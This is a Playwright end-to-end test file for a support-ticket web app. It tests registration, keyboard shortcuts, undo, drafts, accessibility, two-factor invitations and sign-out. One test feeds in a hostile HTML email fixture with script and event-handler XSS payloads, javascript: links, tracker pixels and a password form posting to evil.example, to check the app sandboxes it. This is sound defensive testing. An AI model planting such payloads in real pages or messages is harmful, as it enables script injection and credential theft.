import { AxeBuilder } from '@axe-core/playwright';
import { Secret, TOTP } from 'otpauth';
import type { Browser, Page, Response } from 'playwright-core';
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
import { openBrowser } from '../browser.ts';
import { givePassword, makeOwner, type Person } from '../factories.ts';
import { useHouse } from '../harness.ts';
import { newestToken } from '../links.ts';
import { ingest, mailOf } from '../mails.ts';

const house = useHouse();
const password = 'correct horse battery staple';
let browser: Browser;

beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(async () => {
  await browser?.close();
});

type Options = NonNullable<Parameters<Browser['newContext']>[0]>;

/** A browser of its own, and what its pages complained about. */
async function openPage(options: Options = {}): Promise<{ page: Page; complaints: string[]; asked: string[] }> {
  const context = await browser.newContext({ baseURL: house.url, ...options });
  onTestFinished(() => context.close());
  const page = await context.newPage();
  const complaints: string[] = [];
  const asked: string[] = [];
  page.on('pageerror', (error) => complaints.push(error.message));
  page.on('console', (message) => {
    // A refused request is said by the browser, and its test expects it.
    if (message.type() === 'error' && !message.text().includes('Failed to load resource'))
      complaints.push(message.text());
  });
  page.on('request', (request) => asked.push(request.url()));
  return { page, complaints, asked };
}

let people = 0;

/** Makes an account in the browser; returns who it is for the API. */
async function register(page: Page): Promise<Pick<Person, 'workspaceId'>> {
  await page.goto('/register');
  await page.getByLabel('Your name').fill('Ada');
  await page.getByLabel('E-mail address').fill(`ada-${++people}@example.org`);
  await page.getByLabel('Password').fill(password);
  await page.getByLabel('Name of the workspace').fill('Support');
  const signedIn = page.waitForResponse((response) => response.url().endsWith('/v1/auth/session'));
  await page.getByRole('button', { name: 'Make an account' }).click();
  const { workspace } = await (await signedIn).json();
  await page.getByRole('navigation', { name: 'Lists' }).waitFor();
  return { workspaceId: workspace.id };
}

const writeIn = (to: Pick<Person, 'workspaceId'>, body: string, headers: Record<string, string> = {}) =>
  ingest(house, to as Person, [mailOf({ body, headers })]);

async function axeFaults(page: Page): Promise<string[]> {
  const { violations } = await new AxeBuilder({ page }).analyze();
  return violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`);
}

/** Sends an answer that waits for its undo time. */
async function sendNow(page: Page, answered: Response): Promise<void> {
  const { id } = await answered.json();
  const retry = await page.request.post(`${answered.url()}/${id}/retry`, { headers: { origin: house.url } });
  expect(retry.status()).toBe(200);
  await house.drain();
}

test('a newcomer registers, reads what a customer writes as it comes, and answers', async () => {
  const { page, complaints, asked } = await openPage();
  const owner = await register(page);
  await page.getByText('No tickets here.').waitFor();
  await writeIn(owner, 'It hums since Monday.', { Subject: 'The printer hums' });
  // The list hears of it by the live stream.
  await page.getByRole('link', { name: /The printer hums/ }).click();
  await page.getByText('It hums since Monday.').waitFor();
  expect(new URL(page.url()).pathname).toBe('/t/1');
  await page.getByLabel('Text').fill('Please switch it off and on again.');
  const answered = page.waitForResponse((response) => /\/tickets\/[^/]+\/messages$/.test(response.url()));
  await page.getByRole('button', { name: 'Send answer to Ann Example' }).click();
  await page.getByRole('button', { name: 'Undo' }).waitFor();
  await page.getByText(/^Sending in/).waitFor();
  await sendNow(page, await answered);
  const sent = (await house.outbox()).at(-1) ?? '';
  expect(sent).toMatch(/^To: .*ann@example\.org/m);
  expect(sent).toContain('Please switch it off and on again.');
  await page.getByText('Sent', { exact: true }).waitFor();
  expect(asked.filter((url) => !url.startsWith(house.url) && !/^(data|blob|about):/.test(url))).toEqual([]);
  expect(complaints).toEqual([]);
});

test('the keyboard alone reads, notes, assigns and closes', async () => {
  const { page, complaints } = await openPage();
  const owner = await register(page);
  await writeIn(owner, 'First question.', { Subject: 'First' });
  await writeIn(owner, 'Second question.', { Subject: 'Second' });
  await page.getByRole('link', { name: /Second/ }).waitFor();
  const { keyboard } = page;
  await page.locator('body').click();
  await keyboard.press('j');
  await page.getByRole('heading', { name: 'Second' }).waitFor();
  await keyboard.press('i');
  await expect.poll(() => page.getByLabel('Assignee').locator('option:checked').textContent()).toBe('Ada');
  await keyboard.press('n');
  await keyboard.type('For us alone.');
  await keyboard.press('Control+Enter');
  await page.getByText('For us alone.').waitFor();
  await expect.poll(() => page.getByRole('article', { name: 'Message from Ada' }).count()).toBe(1);
  await keyboard.press('e');
  await page.getByRole('heading', { name: 'First' }).waitFor();
  await expect.poll(() => page.getByRole('link', { name: /Second/ }).count()).toBe(0);
  await keyboard.press('Shift+Slash');
  await page.getByRole('dialog', { name: 'Keys' }).waitFor();
  expect((await house.outbox()).filter((mail) => mail.includes('For us alone.'))).toEqual([]);
  expect(complaints).toEqual([]);
});

test('an answer is taken back within its ten seconds, and its text is in the editor again', async () => {
  const { page } = await openPage();
  const owner = await register(page);
  await writeIn(owner, 'Are you there?', { Subject: 'Hello' });
  await page.getByRole('link', { name: /Hello/ }).click();
  await page.getByLabel('Text').fill('An answer too soon.');
  await page.getByRole('button', { name: 'Send answer to Ann Example' }).click();
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect.poll(() => page.getByLabel('Text').inputValue()).toBe('An answer too soon.');
  await house.drain();
  expect((await house.outbox()).filter((mail) => mail.includes('An answer too soon.'))).toEqual([]);
});

test('a draft outlives its tab', async () => {
  const { page } = await openPage();
  const owner = await register(page);
  await writeIn(owner, 'A question.', { Subject: 'Draft' });
  await page.getByRole('link', { name: /Draft/ }).click();
  await page.getByLabel('Text').fill('Half an ans');
  const address = page.url();
  const other = await page.context().newPage();
  await page.close({ runBeforeUnload: false });
  await other.goto(address);
  await expect.poll(() => other.getByLabel('Text').inputValue()).toBe('Half an ans');
});

const hostile = `<p id="words">Hello <b>there</b></p><script>parent.ran = 1</script><img src=x onerror="parent.ran = 1">
<img src="https://tracker.example/pixel.gif"><a href="javascript:parent.ran=1">click</a><svg onload="parent.ran=1"></svg>
<div style="position:fixed;inset:0;background:red">over</div><form action="https://evil.example"><input name="password"></form>
<iframe src="javascript:parent.ran=1"></iframe><style>body{background:url(https://tracker.example/x)}</style>`;

test('hostile HTML runs nothing, loads nothing and leaves its frame nowhere', async () => {
  const { page, asked } = await openPage();
  const owner = await register(page);
  await writeIn(owner, hostile, { Subject: 'Hostile', 'Content-Type': 'text/html; charset=utf-8' });
  await page.getByRole('link', { name: /Hostile/ }).click();
  const frame = page.frameLocator('iframe:not([hidden])');
  await frame.getByText('Hello').waitFor();
  expect(await page.evaluate('window.ran')).toBeUndefined();
  expect(asked.filter((url) => /tracker|evil/.test(url))).toEqual([]);
  const box = await page.locator('iframe:not([hidden])').boundingBox();
  expect(box?.height).toBeLessThan(400);
});

test.each([
  ['light', 1280],
  ['dark', 1280],
  ['light', 360],
  ['dark', 360],
] as const)('axe finds nothing on the screens, %s at %d pixels', async (colorScheme, width) => {
  const { page } = await openPage({ colorScheme, viewport: { width, height: 800 } });
  await page.goto('/sign-in');
  await page.getByLabel('Password').waitFor();
  expect(await axeFaults(page)).toEqual([]);
  const owner = await register(page);
  await writeIn(owner, 'A question with https://example.org/ in it.', { Subject: 'Axe' });
  await page.getByRole('link', { name: /Axe/ }).waitFor();
  expect(await axeFaults(page)).toEqual([]);
  await page.getByRole('link', { name: /Axe/ }).click();
  await page.getByLabel('Text').waitFor();
  expect(await axeFaults(page)).toEqual([]);
  const scrollWidth = await page.evaluate('document.documentElement.scrollWidth');
  expect(scrollWidth).toBeLessThanOrEqual(width);
});

test('an invited person with an account and a second factor gives its code', async () => {
  const guest = await givePassword(house, await makeOwner(house), password);
  const host = await makeOwner(house);
  const { secret } = (await guest.call('POST', '/v1/me/second-factor', { password })).body;
  const codes = new TOTP({ secret: Secret.fromBase32(secret) });
  const codeNow = () => codes.generate({ timestamp: house.clock.now().getTime() });
  await guest.call('POST', '/v1/me/second-factor/confirm', { code: codeNow() });
  await host.call('POST', '/invites', { email: guest.email, role: 'agent' });
  const { page } = await openPage();
  await page.goto(`/accept-invite?token=${await newestToken(house, guest.email)}`);
  await page.getByLabel('E-mail address').fill(guest.email);
  await page.getByLabel('Password').fill(password);
  expect(page.url()).not.toContain('token');
  await page.getByRole('button', { name: 'Accept the invitation' }).click();
  // A code works once.
  house.clock.advance(30_000);
  await page.getByLabel(/^Code/).fill(codeNow());
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('combobox', { name: 'Workspace' }).waitFor();
});

test('somebody who signed out reads nothing more, and leaves no draft', async () => {
  const { page } = await openPage();
  const owner = await register(page);
  await writeIn(owner, 'A question.', { Subject: 'Private' });
  await page.getByRole('link', { name: /Private/ }).click();
  await page.getByLabel('Text').fill('For nobody else');
  expect(await page.evaluate('JSON.stringify(localStorage)')).toContain('For nobody else');
  await page.getByRole('button', { name: 'Sign out' }).click();
  await page.getByRole('button', { name: 'Sign in' }).waitFor();
  expect(await page.evaluate('JSON.stringify(localStorage)')).not.toContain('For nobody else');
  await page.goto('/t/1');
  await page.getByRole('button', { name: 'Sign in' }).waitFor();
});
